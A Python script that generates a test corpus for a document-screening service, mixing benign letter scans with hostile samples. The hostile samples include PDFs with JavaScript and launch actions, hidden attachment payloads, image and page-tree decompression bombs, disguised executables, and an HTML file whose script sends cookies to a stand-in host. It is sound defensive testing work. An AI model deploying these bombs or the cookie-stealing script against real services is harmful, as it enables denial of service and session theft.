"""Write the sample files of tests/files: what clients really send, good and hostile.

Run from the repository root: `.venv/bin/python tests/files/make_corpus.py`. Seeded and
re-runnable: every file comes out byte-identical on the same library versions (encrypted
samples use RC4 so that no random IV or salt enters them). `tests/corpus.py` says what each
file is and what screening must decide.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import img2pdf
import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw, ImageFont

HERE = Path(__file__).resolve().parent
A4 = (595.2756, 841.8898)
LETTER = (612.0, 792.0)
SEED = 20260401


def font(size: int) -> ImageFont.FreeTypeFont | ImageFont.ImageFont:
    return ImageFont.load_default(size)


def paper(
    size: tuple[int, int], title: str, lines: int, seed: int, mode: str = "RGB"
) -> Image.Image:
    """A page of a French administrative letter, drawn: heading, text lines, a table, a stamp."""
    rng = random.Random(seed)
    width, height = size
    image = Image.new("RGB", size, (250, 249, 245))
    draw = ImageDraw.Draw(image)
    margin = width // 12
    draw.text((margin, height // 14), title, fill=(20, 20, 60), font=font(max(14, width // 22)))
    y = height // 5
    step = max(8, height // (lines + 8))
    for _ in range(lines):
        length = rng.randint(width // 3, width - 2 * margin)
        draw.rectangle((margin, y, margin + length, y + max(2, step // 4)), fill=(70, 70, 80))
        y += step
    draw.rectangle(
        (margin, y, width - margin, y + step * 3), outline=(40, 40, 40), width=max(1, width // 300)
    )
    draw.ellipse(
        (width - margin * 4, height - margin * 4, width - margin, height - margin),
        outline=(30, 60, 160),
        width=max(2, width // 150),
    )
    if mode != "RGB":
        image = image.convert(mode)
    return image


def photo_of_paper(size: tuple[int, int], title: str, seed: int) -> Image.Image:
    """A phone photo of a letter on a wooden table: the sheet does not fill the frame."""
    rng = random.Random(seed)
    width, height = size
    image = Image.new("RGB", size, (120, 84, 52))
    draw = ImageDraw.Draw(image)
    for x in range(0, width, 7):  # wood grain, so the JPEG has real entropy to cut
        shade = rng.randint(-18, 18)
        draw.line((x, 0, x + rng.randint(-20, 20), height), fill=(120 + shade, 84 + shade, 52))
    sheet = paper((int(width * 0.8), int(height * 0.86)), title, 22, seed)
    image.paste(sheet, (int(width * 0.1), int(height * 0.07)))
    return image


def jpeg_bytes(image: Image.Image, quality: int = 70, **extra: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=quality, **extra)
    return buffer.getvalue()


def text_page(pdf: pikepdf.Pdf, lines: list[str], size: tuple[float, float] = A4) -> pikepdf.Page:
    """A page with real text (Helvetica), so tests can extract it."""
    page = pdf.add_blank_page(page_size=size)
    helvetica = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )
    page.obj.Resources = Dictionary(Font=Dictionary(F1=helvetica))
    ops = []
    y = size[1] - 72
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"BT /F1 12 Tf 72 {y:.0f} Td ({escaped}) Tj ET")
        y -= 24
    page.obj.Contents = pdf.make_stream("\n".join(ops).encode("cp1252"))
    return page


def save_pdf(pdf: pikepdf.Pdf, name: str, **options: object) -> None:
    # qpdf refuses a content-derived ID for encrypted output; a fixed one keeps it stable.
    ids = {"static_id": True} if "encryption" in options else {"deterministic_id": True}
    pdf.save(HERE / name, **ids, **options)


# Good files -----------------------------------------------------------------------------


def rotated_photo() -> None:
    """Landscape pixels with EXIF orientation 6: the phone was held upright."""
    upright = photo_of_paper((900, 1200), "Avis d'impôt 2025", SEED + 1)
    stored = upright.rotate(90, expand=True)  # what the sensor wrote: 1200 x 900
    exif = Image.Exif()
    exif[0x010F] = "Pochette Phone"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    (HERE / "photo_rotated.jpg").write_bytes(jpeg_bytes(stored, 72, exif=exif.tobytes()))


def scan_pdf() -> None:
    """Three scanned pages from a US-Letter scanner; the last one is turned (/Rotate 90)."""
    pages = [
        jpeg_bytes(paper((850, 1100), f"Relevé de compte - page {n}", 30, SEED + 10 + n, "L"), 55)
        for n in (1, 2, 3)
    ]
    layout = img2pdf.get_layout_fun(LETTER, fit=img2pdf.FitMode.into)
    data = img2pdf.convert(pages, layout_fun=layout, creationdate=None, moddate=None)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.pages[2].obj.Rotate = 90
        for key in list(pdf.docinfo.keys()):
            del pdf.docinfo[key]
        del pdf.trailer.ID  # img2pdf's is random; qpdf keeps the first half of an old one
        save_pdf(pdf, "scan_3_pages.pdf")


def cmyk_scan() -> None:
    image = paper((1000, 1400), "Attestation CAF", 26, SEED + 20, "CMYK")
    (HERE / "scan_cmyk.jpg").write_bytes(jpeg_bytes(image, 60))


def alpha_png() -> None:
    """A signed page exported with a transparent background (the white is transparent)."""
    image = Image.new("RGBA", (700, 500), (0, 0, 0, 0))
    draw = ImageDraw.Draw(image)
    draw.text((40, 40), "Bon pour accord", fill=(10, 10, 90, 255), font=font(36))
    draw.line(
        [(60, 300), (200, 220), (320, 330), (460, 210), (620, 300)], fill=(0, 0, 120, 255), width=6
    )
    draw.ellipse((420, 340, 660, 470), fill=(200, 30, 30, 120))
    image.save(HERE / "signature_alpha.png", optimize=True)


def webp_photo() -> None:
    image = photo_of_paper((750, 1000), "Quittance de loyer", SEED + 30)
    image.save(HERE / "quittance.webp", "WEBP", quality=55, method=6)


def heic_photo() -> None:
    image = photo_of_paper((600, 800), "Carte Vitale", SEED + 40)
    pillow_heif.from_pillow(image).save(HERE / "photo_iphone.heic", quality=50)


def form_pdf() -> None:
    """A filled AcroForm whose values exist only in the fields (NeedAppearances, no /AP)."""
    pdf = pikepdf.new()
    page = text_page(pdf, ["Demande d'aide au logement", "", "Nom :", "", "Numero allocataire :"])
    helv = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    fields = []
    for name, value, y in (("nom", "Jean Dupont", 720), ("allocataire", "CAF 7654321", 672)):
        fields.append(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Widget,
                    FT=Name.Tx,
                    T=String(name),
                    V=String(value),
                    Rect=Array([220, y - 4, 480, y + 16]),
                    F=4,
                    DA=String("/Helv 12 Tf 0 g"),
                    P=page.obj,
                )
            )
        )
    page.obj.Annots = pdf.make_indirect(Array(fields))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array(fields),
        NeedAppearances=True,
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=helv)),
    )
    save_pdf(pdf, "form_filled.pdf")


def javascript_pdf() -> None:
    """Every active feature we strip: scripts, open action, attachment, launch, links."""
    pdf = pikepdf.new()
    page = text_page(pdf, ["Facture d'electricite", "Montant : 84,20 EUR"])

    def js(code: str) -> Dictionary:
        return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))

    pdf.Root.OpenAction = js("app.alert('bonjour');")
    pdf.Root.AA = Dictionary(WC=js("app.alert('fermeture');"))
    payload = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00 not really a program", filename="outil.exe"
    )
    pdf.attachments["outil.exe"] = payload
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("init"), js("this.print();")]))
    page.obj.AA = Dictionary(O=js("app.launchURL('https://example.invalid/');"))

    def link(rect: list[int], action: Dictionary) -> Dictionary:
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array(rect),
                Border=Array([0, 0, 0]),
                A=action,
            )
        )

    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    uri = Dictionary(S=Name.URI, URI=String("https://example.invalid/payer"))
    page.obj.Annots = pdf.make_indirect(
        Array(
            [
                link([72, 740, 300, 760], js("app.alert(1);")),
                link([72, 700, 300, 720], launch),
                link([72, 660, 300, 680], uri),
            ]
        )
    )
    outline = pdf.make_indirect(Dictionary(Title=String("Payer"), A=js("app.alert(2);")))
    pdf.Root.Outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
    )
    outline.Parent = pdf.Root.Outlines
    save_pdf(pdf, "javascript.pdf")


def _smuggle_kit(pdf: pikepdf.Pdf, tag: str) -> dict[str, Dictionary]:
    """One of each object a clean copy must not carry, labelled with `tag` to find leaks."""
    spec = pikepdf.AttachedFileSpec(
        pdf, f"MZ smuggled payload {tag}".encode(), filename=f"charge-{tag}.exe"
    )
    return {
        "filespec": spec.obj,
        "launch": Dictionary(S=Name.Launch, F=String(f"calc-{tag}.exe")),
        "script": Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{tag}');")),
        "uri": Dictionary(S=Name.URI, URI=String(f"https://example.invalid/{tag}")),
        "submit": Dictionary(S=Name.SubmitForm, F=String(f"https://example.invalid/collect-{tag}")),
        "import": Dictionary(S=Name.ImportData, F=String(f"donnees-{tag}.fdf")),
        "remote": Dictionary(S=Name.GoToR, F=String(f"autre-{tag}.pdf"), D=Array([0, Name.Fit])),
        "media": Dictionary(
            Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=spec.obj)
        ),
    }


def smuggled_resources_pdf() -> None:
    """Payloads under non-standard keys of /Resources and under names no content uses.

    Nothing triggers them, but a copy that keeps the page's resources whole keeps them too.
    """
    pdf = pikepdf.new()
    page = text_page(pdf, ["Avis de situation declarative", "Reference : SMUG-1"])
    kit = _smuggle_kit(pdf, "res")
    resources = page.obj.Resources
    resources.Pochette = Dictionary(
        Fichier=kit["filespec"], Lancer=kit["launch"], Script=kit["script"]
    )
    resources.Font.F9 = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Courier, A=kit["remote"])
    )
    unused = pdf.make_stream(b"0 0 10 10 re f")
    unused.Type, unused.Subtype, unused.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    unused.Resources = Dictionary(Pochette=Dictionary(Lien=kit["uri"], Media=kit["media"]))
    resources.XObject = Dictionary(Inutile=unused)
    resources.ExtGState = Dictionary(Envoi=Dictionary(Type=Name.ExtGState, A=kit["submit"]))
    resources.Properties = Dictionary(Import=Dictionary(A=kit["import"]))
    save_pdf(pdf, "smuggled_resources.pdf")


def smuggled_used_pdf() -> None:
    """Payloads hanging off objects the page really draws: its font, a form XObject, a gstate.

    Pruning unused resources keeps these objects, so only the sweep of the whole object graph
    finds what they carry.
    """
    pdf = pikepdf.new()
    page = text_page(pdf, ["Attestation de loyer", "Bailleur : SCI Exemple"])
    kit = _smuggle_kit(pdf, "used")
    font = page.obj.Resources.Font.F1
    font.Extra = kit["submit"]
    # Bytes with no type at all: no name marks them, only rebuilding the font leaves them out.
    font.Blob = pdf.make_stream(b"MZ smuggled untyped payload used")
    form = pdf.make_stream(b"BT /F1 12 Tf 72 600 Td (Montant du : 512,00 EUR) Tj ET")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
    form.Resources = Dictionary(Font=Dictionary(F1=font), Pochette=kit["media"])
    form.Aller, form.Pieces, form.Lien = kit["remote"], kit["import"], kit["uri"]
    form.Blob = pdf.make_stream(b"PK smuggled untyped archive used")
    gstate = Dictionary(Type=Name.ExtGState, CA=1, Attache=kit["filespec"], Lancer=kit["launch"])
    gstate.Script = kit["script"]
    page.obj.Resources.XObject = Dictionary(Fx=form)
    page.obj.Resources.ExtGState = Dictionary(GS1=gstate)
    page.obj.Contents = pdf.make_stream(page.obj.Contents.read_bytes() + b"\n/GS1 gs /Fx Do")
    save_pdf(pdf, "smuggled_used.pdf")


def owner_password_pdf() -> None:
    """Encrypted with an owner password only: anyone can open it, printing is restricted."""
    pdf = pikepdf.new()
    text_page(pdf, ["Releve bancaire", "Solde au 31/03 : 1 204,55 EUR"])
    save_pdf(
        pdf,
        "owner_password.pdf",
        encryption=pikepdf.Encryption(
            owner="banque-proprietaire",
            user="",
            R=4,
            aes=False,
            metadata=False,
            allow=pikepdf.Permissions(print_highres=False, modify_other=False, extract=False),
        ),
    )


# Hostile or unusable files --------------------------------------------------------------


def user_password_pdf() -> None:
    pdf = pikepdf.new()
    text_page(pdf, ["Bulletin de salaire"])
    save_pdf(
        pdf,
        "user_password.pdf",
        encryption=pikepdf.Encryption(
            owner="employeur", user="1234", R=4, aes=False, metadata=False
        ),
    )


def too_many_pages_pdf() -> None:
    pdf = pikepdf.new()
    for _ in range(201):
        pdf.add_blank_page(page_size=A4)
    save_pdf(pdf, "too_many_pages.pdf", object_stream_mode=pikepdf.ObjectStreamMode.generate)


def page_tree_bomb_pdf() -> None:
    """One page listed 400,000 times in a 4 KB file (the page tree sits in a compressed
    object stream): qpdf copies the page for each entry, a gigabyte to count the pages."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=A4).obj
    pdf.Root.Pages.Kids = Array([page] * 400_000)
    pdf.Root.Pages.Count = 400_000
    save_pdf(pdf, "page_tree_bomb.pdf", object_stream_mode=pikepdf.ObjectStreamMode.generate)


def no_pages_pdf() -> None:
    save_pdf(pikepdf.new(), "no_pages.pdf")


def truncated_jpeg() -> None:
    data = jpeg_bytes(photo_of_paper((600, 800), "Justificatif de domicile", SEED + 50), 70)
    (HERE / "truncated.jpg").write_bytes(data[: len(data) * 11 // 20])


def bomb_png() -> None:
    """20000 x 20000 pixels (400 MP, 50 MB as 1-bit) in a file of some 50 KB."""
    width = height = 20_000

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\x00" + b"\x00" * (width // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    (HERE / "bomb.png").write_bytes(data)


def lossless_webp_bomb() -> None:
    """7740 x 7740 white pixels (just under our 60 MP) in about 2 KB: a gigabyte to decode."""
    Image.new("RGB", (7740, 7740), "white").save(
        HERE / "bomb_lossless.webp", "WEBP", lossless=True, quality=100, method=6
    )


def progressive_jpeg_bomb() -> None:
    """7740 x 7740 grey progressive JPEG: libjpeg keeps every coefficient of it while decoding,
    whatever the scale asked for."""
    image = Image.new("L", (7740, 7740), 235)
    ImageDraw.Draw(image).text((400, 400), "Avis d'echeance", fill=20, font=font(400))
    image.save(HERE / "bomb_progressive.jpg", "JPEG", quality=20, progressive=True)


def tiny_png() -> None:
    Image.new("RGB", (20, 20), (200, 30, 30)).save(HERE / "tiny.png")


def small_files() -> None:
    rng = random.Random(SEED + 60)
    (HERE / "empty.pdf").write_bytes(b"")
    (HERE / "page_html.pdf").write_bytes(
        b'<!DOCTYPE html>\n<html lang="fr"><head><title>Facture</title></head>\n'
        b"<body><script>document.location='https://example.invalid/?c='+document.cookie"
        b"</script><p>Votre facture</p></body></html>\n"
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo("factures/facture.pdf", date_time=(2025, 1, 1, 0, 0, 0))
        zf.writestr(info, b"%PDF-1.4 not really\n" * 20)
    (HERE / "archive_zip.pdf").write_bytes(archive.getvalue())
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    (HERE / "program_exe.jpg").write_bytes(
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + stub + rng.randbytes(400)
    )
    (HERE / "program_elf.jpg").write_bytes(
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + rng.randbytes(400)
    )
    (HERE / "dessin.svg").write_bytes(
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">'
        b'<script>alert(document.domain)</script><rect width="400" height="400"/></svg>\n'
    )
    (HERE / "noise.bin").write_bytes(rng.randbytes(2048))
    (HERE / "broken.pdf").write_bytes(b"%PDF-1.7\n" + rng.randbytes(4096))


def main() -> None:
    for make in (
        rotated_photo,
        scan_pdf,
        cmyk_scan,
        alpha_png,
        webp_photo,
        heic_photo,
        form_pdf,
        javascript_pdf,
        smuggled_resources_pdf,
        smuggled_used_pdf,
        owner_password_pdf,
        user_password_pdf,
        too_many_pages_pdf,
        page_tree_bomb_pdf,
        no_pages_pdf,
        truncated_jpeg,
        bomb_png,
        lossless_webp_bomb,
        progressive_jpeg_bomb,
        tiny_png,
        small_files,
    ):
        make()
    total = sum(p.stat().st_size for p in HERE.iterdir() if p.is_file())
    print(f"tests/files: {total / 1024:.0f} KiB")


if __name__ == "__main__":
    main()
